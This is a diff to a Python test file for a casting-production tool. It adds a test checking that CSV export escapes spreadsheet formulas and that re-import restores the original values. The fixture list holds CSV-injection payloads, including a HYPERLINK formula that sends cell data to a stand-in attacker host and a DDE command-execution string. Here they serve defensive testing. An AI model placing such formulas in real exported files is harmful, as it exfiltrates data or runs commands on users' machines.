@@ -15,7 +15,7 @@ from castroom.core.importing import ImportFailed, apply_import
 from castroom.core.model import Role, Scene, ShootDay, Talent
 from castroom.core.registry import ImportResult
 from castroom.core.view import ProductionView
-from castroom.plugins.csv_io import read_csv, write_csv
+from castroom.plugins.csv_io import escape_cell, read_csv, write_csv
 from castroom.plugins.io_commands import parse_options
 
 OFFICE_CSV = """Name,Age Min,Age Max,Fee,Ref,Shoe,Languages,Agent
@@ -191,6 +191,38 @@ def test_export_round_trips_through_import(tmp_path: Path, doc) -> None:
     assert (counts.created, counts.updated, counts.unchanged) == (0, 0, 1)
     scenes = write_csv(ProductionView(doc), {"kind": "scenes", "fields": "number,story_day"})
     assert scenes.splitlines() == ["id,number,story_day", f"{doc.all(Scene)[0].id},12A,2"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "'=already quoted",
+    "''@twice",
+]
+
+
+def test_export_escapes_formulas_and_a_reimport_gets_the_values_back(tmp_path: Path, doc) -> None:
+    """OWASP CSV injection: a cell a spreadsheet would run starts with a quote; plain
+    numbers (a negative one too) and other text stay as they are."""
+    for name in FORMULAS:
+        doc.add(Talent, name=f"Ada {len(name)}", agent=name, notes=name)
+    doc.add(Talent, name="Plain", agent="-12.5", notes="a - b = c")
+    text = write_csv(ProductionView(doc), {"kind": "talent", "fields": "name,agent,notes"})
+    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(text))}
+    for name in FORMULAS:
+        cell = rows[f"Ada {len(name)}"]["agent"]
+        assert cell == "'" + name and cell[0] not in "=+-@\t\r"
+    assert (rows["Plain"]["agent"], rows["Plain"]["notes"]) == ("-12.5", "a - b = c")
+    assert escape_cell("\t=1+1") == "'\t=1+1" and escape_cell("\r@x") == "'\r@x"
+    before = {t.id: (t.agent, t.notes) for t in doc.all(Talent)}
+    path = write(tmp_path, "export.csv", text)
+    for t in doc.all(Talent):  # the re-import must write each original value back
+        doc.update(Talent, t.id, {"agent": "changed", "notes": "changed"})
+    counts = apply_import(doc, read_csv(str(path), ProductionView(doc), {"kind": "talent"}))
+    assert counts.updated == len(before)
+    assert {t.id: (t.agent, t.notes) for t in doc.all(Talent)} == before
 
 
 def test_every_exported_column_imports_back_without_warnings(tmp_path: Path, doc) -> None:
